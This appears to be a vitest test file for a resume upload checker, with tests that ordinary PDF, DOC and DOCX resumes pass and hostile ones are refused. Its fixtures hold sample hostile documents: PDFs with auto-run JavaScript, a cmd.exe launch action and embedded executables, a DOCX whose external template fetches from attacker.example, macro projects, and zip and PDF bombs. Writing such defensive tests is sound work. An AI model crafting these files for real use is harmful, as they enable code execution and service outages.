import { deflateSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  backwardChainsCompoundFile,
  docBytes,
  docxBytes,
  fakeDocBytes,
  makeZip,
  objectStream,
  oleObjectBytes,
  overlappingEntriesZip,
  pdfBytes,
  pdfWith,
  zipFile,
} from "../../../tests/support/files";
import { applicationForm, testEnv } from "../../../tests/support/intake";
import { createIntake, type Intake } from "../index";
import { checkResume } from "./resume-check";
import { checkZip, inspectResume } from "./upload";

const application = (resume: File, locale = "en") => applicationForm(resume, { locale });

/** The fastest of three runs of `run`, in milliseconds. */
async function fastestMs(run: () => Promise<unknown>) {
  let best = Infinity;
  for (let i = 0; i < 3; i++) {
    const started = performance.now();
    await run();
    best = Math.min(best, performance.now() - started);
  }
  return best;
}

describe("resumes are checked by their bytes", () => {
  it.each([
    ["a PDF", pdfBytes(), "cv.pdf", "application/pdf"],
    ["a Word 97-2003 document", docBytes(), "cv.doc", "application/msword"],
    ["a DOCX", docxBytes(), "cv.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"],
  ])("accepts %s", async (_label, bytes, name, type) => {
    const checked = await checkResume({ name, bytes });
    expect(checked).toMatchObject({ ok: true, name, type });
  });

  it.each([
    [
      "an MZ executable named cv.pdf",
      Buffer.from("MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode"),
      "cv.pdf",
    ],
    ["an HTML file named cv.pdf", Buffer.from("<!doctype html><script>alert(1)</script>"), "cv.pdf"],
    [
      "a zip that is not a Word document named cv.docx",
      zipFile([{ name: "a.txt", data: Buffer.from("hi") }]),
      "cv.docx",
    ],
  ])("refuses %s", async (_label, bytes, name) => {
    expect(await checkResume({ name, bytes })).toMatchObject({ ok: false, problem: "resumeContent" });
  });

  it("refuses a DOCX whose entries inflate past the bound, or lie about their size", async () => {
    const huge = makeZip([
      { name: "[Content_Types].xml", data: Buffer.from("<Types/>") },
      { name: "word/document.xml", data: Buffer.alloc(1024), declaredSize: 1024 ** 3 },
    ]);
    await expect(checkZip(huge)).rejects.toThrow("zip-inflates-too-large");
    const lying = docxBytes([
      { name: "word/media/image1.bin", data: Buffer.alloc(64 * 1024 * 1024), declaredSize: 1000 },
    ]);
    expect(lying.length).toBeLessThan(1024 * 1024);
    await expect(checkZip(Buffer.from(lying))).rejects.toThrow(/zip-/);
    expect((await checkResume({ name: "cv.docx", bytes: lying })).ok).toBe(false);
    await expect(checkZip(Buffer.from(docxBytes()))).resolves.toBeUndefined();
  });

  it("refuses a DOCX whose entries share their bytes, before inflating them over and over", async () => {
    // 300 entries on one 2 MB run of empty deflate blocks: each declares nothing and inflates to
    // nothing, and each costs a full inflate pass (2,000 on 5 MB held the upload worker 20 s).
    const shared = overlappingEntriesZip(300, 2 * 1024 * 1024);
    await expect(checkZip(shared)).rejects.toThrow("zip-overlapping-entries");
    await expect(checkZip(overlappingEntriesZip(1, 2 * 1024 * 1024))).resolves.toBeUndefined();
  });

  it("refuses a DOCX whose directory cannot be read to its end, as a file it cannot take", async () => {
    // The central directory opens, but an entry in it is marked with strong encryption.
    const bytes = Buffer.from(docxBytes());
    const entry = bytes.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    bytes.writeUInt16LE(bytes.readUInt16LE(entry + 8) | 0x40, entry + 8);
    expect(await checkResume({ name: "cv.docx", bytes })).toMatchObject({ ok: false, problem: "resumeContent" });
  });

  it("refuses a compound file that only names a WordDocument stream", async () => {
    expect(await checkResume({ name: "cv.doc", bytes: fakeDocBytes() })).toMatchObject({
      ok: false,
      problem: "resumeContent",
    });
  });

  it("reads a compound file in memory proportional to its size, whatever order its chains run in", async () => {
    // Read from every sector in turn, chains written backwards overlap: 1 MB of them was 1 GB of
    // copies in memory outside the worker's heap limit, and a 5 MB resume 27 GB.
    const bytes = backwardChainsCompoundFile(2000);
    const before = process.memoryUsage().arrayBuffers;
    expect(await inspectResume(bytes)).toMatchObject({ ok: false, problem: "resumeContent" });
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(32 * 1024 * 1024);
  });
});

describe("resumes that run something when opened are refused", () => {
  const rels = (relationships: string) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`;
  const template =
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>';
  const hyperlink =
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/luis" TargetMode="External"/>';

  it.each([
    [
      "a PDF that opens with JavaScript",
      pdfWith("<</OpenAction 3 0 R>>", "<</S/JavaScript/JS(app.alert(1))>>"),
      "cv.pdf",
    ],
    ["a PDF with a launch action", pdfWith("<</OpenAction<</S/Launch/F(cmd.exe)>>>>"), "cv.pdf"],
    ["a PDF that spells JavaScript with escapes", pdfWith("<</OpenAction<</S/J#61vaScript/J#53(x)>>>>"), "cv.pdf"],
    [
      "a PDF with JavaScript inside a compressed object stream",
      pdfWith(objectStream("3 0 <</S/JavaScript/JS(app.alert(1))>>")),
      "cv.pdf",
    ],
    [
      "a DOCX with an external template",
      docxBytes([{ name: "word/_rels/settings.xml.rels", data: Buffer.from(rels(template)) }]),
      "cv.docx",
    ],
    [
      "a DOCX with a macro project",
      docxBytes([{ name: "word/vbaProject.bin", data: Buffer.from("macro") }]),
      "cv.docx",
    ],
    ["a Word 97-2003 document with macros", docBytes(["Macros"]), "cv.doc"],
  ])("refuses %s", async (_label, bytes, name) => {
    expect(await checkResume({ name, bytes })).toMatchObject({ ok: false, problem: "resumeActive" });
  });

  const oleObject = (target: string) =>
    `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="${target}"/>`;
  it.each([
    [
      "a DOCX with an embedded OLE object, as Word saves it",
      docxBytes([
        { name: "word/_rels/document.xml.rels", data: Buffer.from(rels(oleObject("embeddings/oleObject1.bin"))) },
        { name: "word/embeddings/oleObject1.bin", data: oleObjectBytes() },
      ]),
      "cv.docx",
      "docx-embedded-object",
    ],
    [
      "a DOCX whose OLE object sits outside the embeddings folder",
      docxBytes([
        { name: "word/_rels/document.xml.rels", data: Buffer.from(rels(oleObject("media/image9.bin"))) },
        { name: "word/media/image9.bin", data: oleObjectBytes() },
      ]),
      "cv.docx",
      "docx-embedded-object",
    ],
    [
      "a DOCX with an embedded document and no relationship naming it",
      docxBytes([{ name: "word/embeddings/Microsoft_Word_Document.docx", data: Buffer.from(docxBytes()) }]),
      "cv.docx",
      "docx-embedded-object",
    ],
    [
      "a Word 97-2003 document with an embedded object",
      docBytes(["ObjectPool/_1234567"]),
      "cv.doc",
      "doc-embedded-object",
    ],
    [
      "a PDF with an embedded file",
      pdfWith(
        "<</Names<</EmbeddedFiles<</Names[(run.exe) 3 0 R]>>>>>>",
        "<</Type/Filespec/F(run.exe)/EF<</F 4 0 R>>>>",
        "<</Type/EmbeddedFile/Length 12>>\nstream\nMZ\x90\x00 program\nendstream",
      ),
      "cv.pdf",
      "pdf-embedded-file",
    ],
    [
      "a PDF with a file-attachment annotation, its names spelled with escapes",
      pdfWith("<</Type/Annot/Subtype/File#41ttachment/FS<</F(run.exe)/E#46<</F 3 0 R>>>>>>"),
      "cv.pdf",
      "pdf-embedded-file",
    ],
    [
      "a PDF with an embedded file inside a compressed object stream",
      pdfWith(objectStream("3 0 <</Type/Filespec/F(run.exe)/EF<</F 4 0 R>>>>")),
      "cv.pdf",
      "pdf-embedded-file",
    ],
    [
      "a PDF with rich media",
      pdfWith("<</Type/Annot/Subtype/RichMedia/RichMediaContent<</Assets 3 0 R>>>>"),
      "cv.pdf",
      "pdf-rich-media",
    ],
  ])("refuses %s", async (_label, bytes, name, reason) => {
    expect(await checkResume({ name, bytes })).toEqual({ ok: false, problem: "resumeActive", reason });
  });

  it("accepts links to web pages and text that mentions JavaScript", async () => {
    const linked = docxBytes([{ name: "word/_rels/document.xml.rels", data: Buffer.from(rels(hyperlink)) }]);
    expect(await checkResume({ name: "cv.docx", bytes: linked })).toMatchObject({ ok: true });
    const text = pdfWith(
      "<</Length 40>>\nstream\nBT (Skills: HTML/JavaScript/CSS) Tj ET\nendstream",
      "(/JS in a string)",
    );
    expect(await checkResume({ name: "cv.pdf", bytes: text })).toMatchObject({ ok: true });
  });

  it("reads a resume off the event loop, however slow its bytes are to read", async () => {
    // Names spelled with `#xx` escapes are a PDF's slowest bytes to read: 7 MB of them, deflated
    // into an object stream of a small file, keep the token pass busy for a quarter of a second.
    const slow = pdfWith(objectStream(`3 0 <<${`/${"#41".repeat(40)} `.repeat(60_000)}>>`));
    await checkResume({ name: "cv.pdf", bytes: pdfBytes() });
    // The longest the event loop went without running a timer meanwhile.
    let longest = 0;
    let last = performance.now();
    const probe = setInterval(() => {
      longest = Math.max(longest, performance.now() - last);
      last = performance.now();
    }, 1);
    const started = performance.now();
    const checked = await checkResume({ name: "cv.pdf", bytes: slow });
    const took = performance.now() - started;
    longest = Math.max(longest, performance.now() - last);
    clearInterval(probe);
    expect(checked).toMatchObject({ ok: true });
    // Read on the event loop, the whole inspection is one stall; read beside it, timers keep running.
    expect(longest).toBeLessThan(took / 5);
  });

  it("reads a PDF of adversarial bytes in one pass", async () => {
    const unclosed = Buffer.concat([
      pdfBytes(),
      Buffer.from("(".repeat(2_000_000)),
      Buffer.from("/".repeat(1_000_000)),
    ]);
    // One pass over 3 MB takes milliseconds; a pattern that rescans from each "(" or "/" would take
    // hours. The fastest of three runs counts, so a neighbour holding the CPU does not decide it.
    expect(await fastestMs(() => checkResume({ name: "cv.pdf", bytes: unclosed }))).toBeLessThan(3000);
    const tags = docxBytes([{ name: "word/_rels/a.rels", data: Buffer.from("<Relationship ".repeat(70_000)) }]);
    expect(await checkResume({ name: "cv.docx", bytes: tags })).toMatchObject({ ok: true });
    expect(await fastestMs(() => checkResume({ name: "cv.docx", bytes: tags }))).toBeLessThan(3000);
  });

  it("refuses a small file whose parts to read inflate far past any resume's", async () => {
    // A few kilobytes whose object stream inflates to 9 MB of one-letter names (48 MB of them,
    // the bound before, took the upload worker 1.5 s a file).
    const words = pdfWith(objectStream(`3 0 <<${"/a ".repeat(3_000_000)}>>`));
    expect(words.length).toBeLessThan(100_000);
    expect(await inspectResume(Buffer.from(words))).toMatchObject({
      ok: false,
      reason: "pdf-object-streams-too-large",
    });
    // Five relationship parts of 1 MB each: every one within the bound of one part.
    const relationships = `<Relationship Type="x/hyperlink" Target="a"/>`.repeat(23_000);
    const rels = docxBytes(
      Array.from({ length: 5 }, (_, i) => ({ name: `word/_rels/p${i}.xml.rels`, data: Buffer.from(relationships) })),
    );
    await expect(checkZip(Buffer.from(rels))).rejects.toThrow("zip-parts-too-large");
  });

  it("refuses a PDF of more object streams than any resume has, without inflating them all", async () => {
    // 200,000 object streams of an empty deflate stream each (24 bytes, 4.8 MB in all): sent to the
    // thread pool one inflate at a time they took 13 s, and held the upload worker for its limit;
    // no resume has that many, and 10,000 are read in a few tens of milliseconds.
    const empty = Buffer.concat([Buffer.from("stream\n"), deflateSync(Buffer.alloc(0)), Buffer.from("endstream")]);
    const many = Buffer.concat([
      Buffer.from("%PDF-1.5\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>"),
      ...Array<Buffer>(200_000).fill(empty),
      Buffer.from("\ntrailer<<>>\n%%EOF\n"),
    ]);
    // This reason is given while the file is scanned, before any stream is inflated.
    expect(await inspectResume(many)).toMatchObject({ ok: false, reason: "pdf-too-many-object-streams" });
    const fewer = Buffer.concat([
      Buffer.from("%PDF-1.5\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>"),
      ...Array<Buffer>(10_000).fill(empty),
      Buffer.from("\ntrailer<<>>\n%%EOF\n"),
    ]);
    expect(await inspectResume(fewer)).toMatchObject({ ok: true, extension: "pdf" });
  }, 30_000);
});

describe("POST /api/careers with a resume", () => {
  let intake: Intake;
  beforeAll(async () => {
    intake = await createIntake(testEnv({ UPLOAD_STORAGE_MB: "1" }), { pollMs: 60_000 });
  });
  afterAll(() => intake.close());

  it("refuses active content with a message in the visitor's language", async () => {
    const script = new File([pdfWith("<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")], "cv.pdf");
    const response = await intake.app.request("/api/careers", { method: "POST", body: application(script, "es") });
    expect(response.status).toBe(400);
    expect(((await response.json()) as { errors: Record<string, string> }).errors.resume).toBe(
      "Este archivo contiene macros, scripts, archivos incrustados o enlaces a contenido externo. Por favor, guárdelo como un PDF o DOCX sencillo y adjúntelo de nuevo",
    );
  });

  it("refuses an executable named cv.pdf in the visitor's language", async () => {
    const exe = new File([Buffer.from("MZ\x90\x00 program")], "cv.pdf", { type: "application/pdf" });
    const response = await intake.app.request("/api/careers", { method: "POST", body: application(exe, "es") });
    expect(response.status).toBe(400);
    expect(((await response.json()) as { errors: Record<string, string> }).errors.resume).toBe(
      "Este archivo no parece un documento PDF, DOC o DOCX. Por favor, adjunte el documento en sí",
    );
  });

  it("stops taking files at the storage cap with a clear message, and keeps what is stored", async () => {
    const big = Buffer.concat([pdfBytes(), Buffer.alloc(600 * 1024, 32)]);
    const first = await intake.app.request("/api/careers", {
      method: "POST",
      body: application(new File([big], "first.pdf")),
    });
    expect(first.status).toBe(201);
    const second = await intake.app.request("/api/careers", {
      method: "POST",
      body: application(new File([big], "second.pdf")),
    });
    expect(second.status).toBe(400);
    expect(((await second.json()) as { errors: Record<string, string> }).errors.resume).toMatch(
      /cannot receive files right now/,
    );
    const stored = await intake.store.db.selectFrom("submissions").select(["resume_name"]).execute();
    expect(stored.map((r) => r.resume_name)).toEqual(["first.pdf"]);
  });
});
